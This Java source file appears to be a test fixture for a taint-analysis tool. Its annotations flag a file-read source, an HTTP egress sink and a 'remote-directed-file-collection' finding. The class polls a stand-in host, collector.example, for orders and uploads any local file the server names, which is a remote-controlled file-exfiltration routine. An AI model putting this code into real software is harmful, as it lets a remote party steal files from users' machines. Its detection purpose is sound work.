// --- path: app/Orders.java ---
// The server's answer says which file to send; the file goes back in the next request's form.
package app;

import java.io.File;
import okhttp3.MediaType;
import okhttp3.MultipartBody;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;
import okhttp3.Response;
import org.json.JSONArray;
import org.json.JSONObject;

public class Orders {
    private static final String SERVER = "https://collector.example";
    private final OkHttpClient client = new OkHttpClient();

    void poll() throws Exception {
        Response answer = client.newCall(new Request.Builder().url(SERVER + "/orders").build()).execute();
        JSONArray orders = new JSONObject(answer.body().string()).getJSONArray("orders");
        for (int i = 0; i < orders.length(); i++) {
            JSONObject order = orders.getJSONObject(i);
            switch (order.getString("kind")) {
                case "get":
                    send(order.getString("path"));
                    break;
                default:
                    done(order.getString("kind").length());
            }
        }
    }

    private void send(String path) throws Exception {
        RequestBody part = RequestBody.create(MediaType.parse("application/octet-stream"), new File(path)); //~ source(FILE) f1
        RequestBody body = new MultipartBody.Builder().setType(MultipartBody.FORM)
            .addFormDataPart("file", "file", part)
            .build();
        client.newCall(new Request.Builder().url(SERVER + "/files").post(body).build()).execute(); //~ sink(egress.http) f1, finding(remote-directed-file-collection, traced) f1
    }

    private void done(int size) throws Exception {
        RequestBody body = RequestBody.create(MediaType.parse("text/plain"), "done" + size);
        client.newCall(new Request.Builder().url(SERVER + "/done").post(body).build()).execute(); //~ ok
    }
}
